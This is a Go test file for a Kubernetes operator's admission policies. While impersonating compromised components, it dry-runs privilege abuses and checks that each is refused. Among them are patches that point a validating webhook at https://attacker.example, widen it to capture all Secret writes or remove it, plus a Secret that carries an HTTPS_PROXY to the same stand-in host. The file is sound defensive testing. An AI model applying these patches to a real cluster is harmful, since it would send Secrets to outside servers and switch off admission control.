package manifests

import (
	"context"
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"time"

	admissionv1 "k8s.io/api/admissionregistration/v1"
	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/apimachinery/pkg/util/wait"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"

	"github.com/checky-dev/checky/cmd/checky/controlplane"
)

const (
	system   = "checky-system"
	webhooks = "checky-validating-webhook-configuration"
)

// as is a client with the rights of a component, and whatever becomes of it then.
func as(t *testing.T, cp *controlplane.ControlPlane, column string) kubernetes.Interface {
	t.Helper()
	name, groups := user(column, system)
	config := rest.CopyConfig(cp.RESTConfig())
	config.Impersonate = rest.ImpersonationConfig{UserName: name, Groups: groups}
	client, err := kubernetes.NewForConfig(config)
	if err != nil {
		t.Fatal(err)
	}
	return client
}

// secret is one of checky-system's; TLS's have what their type asks for.
func secret(name, kind string) *corev1.Secret {
	s := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: system, Name: name}, Type: corev1.SecretType(kind), Data: map[string][]byte{}}
	switch s.Type {
	case corev1.SecretTypeTLS:
		s.Data = map[string][]byte{"tls.crt": {}, "tls.key": {}, "HTTPS_PROXY": []byte("http://attacker.example")}
	case corev1.SecretTypeServiceAccountToken:
		s.Annotations = map[string]string{corev1.ServiceAccountNameKey: "checky-alertd"}
	}
	return s
}

// TestPoliciesHoldWhatWasTakenOver does, as components that were taken over, what their roles alone would allow. Nothing is kept: each is a dry run.
func TestPoliciesHoldWhatWasTakenOver(t *testing.T) {
	cp := install(t)
	create := func(name, kind string) func(context.Context, kubernetes.Interface) error {
		return func(ctx context.Context, client kubernetes.Interface) error {
			_, err := client.CoreV1().Secrets(system).Create(ctx, secret(name, kind), metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}})
			return err
		}
	}
	patch := func(operations ...any) func(context.Context, kubernetes.Interface) error {
		return func(ctx context.Context, client kubernetes.Interface) error {
			text, err := json.Marshal(operations)
			if err != nil {
				return err
			}
			_, err = client.AdmissionregistrationV1().ValidatingWebhookConfigurations().Patch(ctx, webhooks, types.JSONPatchType, text,
				metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}})
			return err
		}
	}
	add := func(path string, value any) any {
		return map[string]any{"op": "add", "path": path, "value": value}
	}
	everything := []admissionv1.RuleWithOperations{{Operations: []admissionv1.OperationType{"*"}, Rule: admissionv1.Rule{
		APIGroups: []string{"*"}, APIVersions: []string{"*"}, Resources: []string{"*"},
	}}}
	for name, tc := range map[string]struct {
		reason  string
		who     string
		do      func(context.Context, kubernetes.Interface) error
		allowed bool
	}{
		"Certificate":        {"it keeps this one", "controller", create("checky-webhook-tls", "kubernetes.io/tls"), true},
		"ControllersOther":   {"the facade takes its environment from it", "controller", create("checky-apiserver-env", "kubernetes.io/tls"), false},
		"ControllersToken":   {"it would be another ServiceAccount", "controller", create("checky-apiserver-tls", "kubernetes.io/service-account-token"), false},
		"Account":            {"it keeps accounts", "facade", create("checky-account-x", "checky.dev/account"), true},
		"Token":              {"it keeps tokens", "facade", create("checky-token-x", "checky.dev/token"), true},
		"FacadesCertificate": {"the webhooks would be served by it", "facade", create("checky-webhook-tls", "checky.dev/account"), false},
		"FacadesEnvironment": {"it would outlive the Pod", "facade", create("checky-apiserver-env", "checky.dev/token"), false},
		"FacadesToken":       {"it would be the controller", "facade", create("checky-token-x", "kubernetes.io/service-account-token"), false},
		"Bundle":             {"that is what the right is for", "controller", patch(add("/webhooks/0/clientConfig/caBundle", []byte(nil))), true},
		"Elsewhere":          {"objects would go to another server", "controller", patch(add("/webhooks/0/clientConfig/service/name", "other")), false},
		"Port":               {"and to another port", "controller", patch(add("/webhooks/0/clientConfig/service/port", 8443)), false},
		"OtherNamespace":     {"and to another namespace", "controller", patch(add("/webhooks/0/clientConfig/service/namespace", "default")), false},
		"URL":                {"and out of the cluster", "controller", patch(add("/webhooks/0/clientConfig", map[string]any{"url": "https://attacker.example"})), false},
		"Everything":         {"Secrets would be sent as they are written", "controller", patch(add("/webhooks/0/rules", everything)), false},
		"FailClosed":         {"nothing could be written any more", "controller", patch(add("/webhooks/0/failurePolicy", "Fail")), false},
		"Another":            {"it is the same with one more", "controller", patch(add("/webhooks/-", map[string]any{"name": "x.checky.dev", "sideEffects": "None", "admissionReviewVersions": []string{"v1"}, "clientConfig": map[string]any{"url": "https://attacker.example"}, "rules": everything})), false},
		"None":               {"rules would not be looked at", "controller", patch(map[string]any{"op": "remove", "path": "/webhooks/0"}), false},
		"Blind":              {"nor here", "controller", patch(add("/webhooks/0/namespaceSelector", map[string]any{"matchLabels": map[string]string{"a": "b"}})), false},
		"BlindToo":           {"nor here", "controller", patch(add("/webhooks/0/objectSelector", map[string]any{"matchLabels": map[string]string{"a": "b"}})), false},
		"Condition":          {"nor here", "controller", patch(add("/webhooks/0/matchConditions", []any{map[string]any{"name": "no", "expression": "false"}})), false},
		"Injected":           {"cert-manager would put another authority there", "controller", patch(add("/metadata/annotations", map[string]string{"cert-manager.io/inject-ca-from": "a/b"})), false},
		"Owned":              {"it would be deleted with its owner", "controller", patch(add("/metadata/ownerReferences", []any{map[string]any{"apiVersion": "v1", "kind": "Node", "name": "x", "uid": "x"}})), false},
	} {
		t.Run(name, func(t *testing.T) {
			client := as(t, cp, tc.who)
			var err error
			// A policy holds a moment after it was made.
			_ = wait.PollUntilContextTimeout(t.Context(), 100*time.Millisecond, 10*time.Second, true, func(ctx context.Context) (bool, error) {
				err = tc.do(ctx, client)
				return tc.allowed || err != nil, nil
			})
			refused := apierrors.IsForbidden(err) || apierrors.IsInvalid(err)
			if tc.allowed && err != nil {
				t.Errorf("%s, and it is refused: %v", tc.reason, err)
			}
			if !tc.allowed && (!refused || !strings.Contains(err.Error(), "ValidatingAdmissionPolicy")) {
				t.Errorf("%s, and no policy refuses it: %v", tc.reason, err)
			}
		})
	}
}

// TestPodsHaveNoAuthoritysKey looks at the Secrets that Pods mount: by names of keys, the key of an authority not among them.
func TestPodsHaveNoAuthoritysKey(t *testing.T) {
	looked := 0
	for _, r := range renderings(t) {
		for _, d := range all[appsv1.Deployment](t, r.objects, "Deployment") {
			for _, volume := range d.Spec.Template.Spec.Volumes {
				if volume.Secret == nil {
					continue
				}
				looked++
				var keys []string
				for _, item := range volume.Secret.Items {
					keys = append(keys, item.Key)
				}
				if !slices.Equal(keys, []string{"tls.crt", "tls.key"}) {
					t.Errorf("%s: %s mounts %v of Secret %s", r.name, d.Name, keys, volume.Secret.SecretName)
				}
			}
		}
	}
	if looked == 0 {
		t.Error("no Pod mounts a Secret")
	}
}
